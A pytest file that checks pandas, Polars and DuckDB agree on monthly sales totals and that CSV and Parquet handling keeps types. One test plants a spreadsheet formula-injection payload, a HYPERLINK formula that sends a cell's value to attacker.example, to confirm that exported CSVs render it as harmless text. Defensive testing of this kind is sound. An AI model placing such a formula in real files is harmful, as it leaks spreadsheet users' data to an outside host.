"""The one analysis in pandas, Polars and DuckDB gives the same answer; files keep their types."""

from __future__ import annotations

import warnings
from pathlib import Path

import duckdb
import frames_duckdb
import frames_files
import frames_pandas
import frames_polars
import pandas as pd
import polars as pl
import pytest

SALES_CSV = """\
order_id,zip_code,category,sold_on,amount_cents
A-001,02134,books,2026-01-05,1250
A-002,10001,games,2026-01-17,4999
A-003,02134,books,2026-01-30,800
A-004,94103,games,2026-02-02,2500
A-005,00501,books,2026-02-14,1999
A-006,10001,music,2026-02-28,1500
A-007,02134,music,2026-03-01,999
"""

EXPECTED = [
    ("2026-01", "books", 2050),
    ("2026-01", "games", 4999),
    ("2026-02", "books", 1999),
    ("2026-02", "games", 2500),
    ("2026-02", "music", 1500),
    ("2026-03", "music", 999),
]


@pytest.fixture(scope="module")
def sales_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("sales") / "sales.csv"
    path.write_text(SALES_CSV, encoding="utf-8")
    return path


def test_pandas_polars_and_duckdb_agree(sales_csv: Path) -> None:
    assert frames_pandas.monthly_totals(frames_pandas.read_sales(sales_csv)) == EXPECTED
    assert frames_polars.monthly_totals(sales_csv) == EXPECTED
    assert frames_duckdb.monthly_totals(sales_csv) == EXPECTED


def test_duckdb_queries_pandas_and_polars_frames(sales_csv: Path) -> None:
    sales = frames_pandas.read_sales(sales_csv)
    assert frames_duckdb.monthly_totals_of_frame(sales) == EXPECTED
    polars_sales = pl.read_csv(sales_csv, schema=frames_polars.SALES_SCHEMA)
    assert frames_duckdb.monthly_totals_of_frame(polars_sales) == EXPECTED


def test_explicit_types_keep_leading_zeros(sales_csv: Path) -> None:
    guessed = pd.read_csv(sales_csv)
    assert guessed["zip_code"].tolist()[:2] == [2134, 10001]  # inference loses the zero
    assert pl.read_csv(sales_csv).schema["zip_code"] == pl.Int64  # so does Polars'
    sniffed = duckdb.read_csv(str(sales_csv))
    assert str(sniffed.select("zip_code").types[0]) == "VARCHAR"  # DuckDB sees the zero
    stated = frames_pandas.read_sales(sales_csv)
    assert stated["zip_code"].tolist()[:2] == ["02134", "10001"]
    assert str(stated["zip_code"].dtype) == "str"  # pandas 3's default string dtype
    assert stated["sold_on"].dt.year.tolist()[0] == 2026


def test_a_bad_date_fails_loudly(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(SALES_CSV.replace("2026-01-17", "17/01/2026"), encoding="utf-8")
    with pytest.raises(ValueError, match="17/01/2026"):
        frames_pandas.read_sales(path)
    with pytest.raises(pl.exceptions.ComputeError):
        frames_polars.monthly_totals(path)


def test_lazy_query_reads_only_the_columns_it_uses(sales_csv: Path) -> None:
    plan = frames_polars.monthly_totals_query(sales_csv).explain()
    assert "Csv SCAN" in plan
    assert "PROJECT 3/5 COLUMNS" in plan  # order_id and zip_code are never read


def test_chained_assignment_changes_nothing_and_loc_does(sales_csv: Path) -> None:
    sales = frames_pandas.read_sales(sales_csv)
    books = sales["category"] == "books"
    with pytest.warns(pd.errors.ChainedAssignmentError):
        sales["amount_cents"][books] = 0  # the bad example: updates a temporary copy
    assert sales["amount_cents"].sum() == sum(total for *_, total in EXPECTED)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        sales.loc[books, "amount_cents"] = 0  # the good example: one step, no warning
    assert sales.loc[books, "amount_cents"].eq(0).all()


def test_parquet_round_trip_keeps_the_schema(sales_csv: Path, tmp_path: Path) -> None:
    parquet = tmp_path / "sales.parquet"
    frames_files.csv_to_parquet(sales_csv, parquet)
    sales = frames_files.read_parquet_checked(parquet)
    assert sales["zip_code"].tolist()[0] == "02134"
    assert str(sales["sold_on"].dtype) == "date32[day][pyarrow]"
    assert frames_duckdb.monthly_totals_of_frame(sales) == EXPECTED


def test_parquet_with_another_schema_is_refused(tmp_path: Path) -> None:
    other = tmp_path / "other.parquet"
    pd.DataFrame({"zip_code": [2134]}).to_parquet(other)
    with pytest.raises(ValueError, match=r"other\.parquet: schema 'zip_code: int64'"):
        frames_files.read_parquet_checked(other)


def test_csv_for_people_starts_with_a_bom(sales_csv: Path, tmp_path: Path) -> None:
    target = tmp_path / "report.csv"
    frames_files.write_csv_for_people(frames_pandas.read_sales(sales_csv), target)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbforder_id,")
    assert b",02134,books,2026-01-05,1250" in raw


def test_csv_for_people_turns_a_formula_into_text(sales_csv: Path, tmp_path: Path) -> None:
    sales = frames_pandas.read_sales(sales_csv)
    sales.loc[0, "category"] = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    target = tmp_path / "report.csv"
    frames_files.write_csv_for_people(sales, target)
    rows = target.read_text(encoding="utf-8-sig").splitlines()
    assert rows[1].startswith("A-001,02134,\"'=HYPERLINK(")  # shown as text, not run
    assert rows[2] == "A-002,10001,games,2026-01-17,4999"  # other cells untouched


def test_duckdb_rounds_a_decimal_in_an_integer_column(sales_csv: Path, tmp_path: Path) -> None:
    path = tmp_path / "pounds.csv"
    path.write_text(SALES_CSV.replace(",4999\n", ",49.99\n"), encoding="utf-8")
    with pytest.raises(ValueError, match="cannot safely convert"):
        frames_pandas.read_sales(path)
    with pytest.raises(pl.exceptions.ComputeError, match="49.99"):
        frames_polars.monthly_totals(path)
    # DuckDB 2.0's CSV reader casts leniently (duckdb/duckdb#25824): 49.99 becomes 50, no error.
    assert ("2026-01", "games", 50) in frames_duckdb.monthly_totals(path)
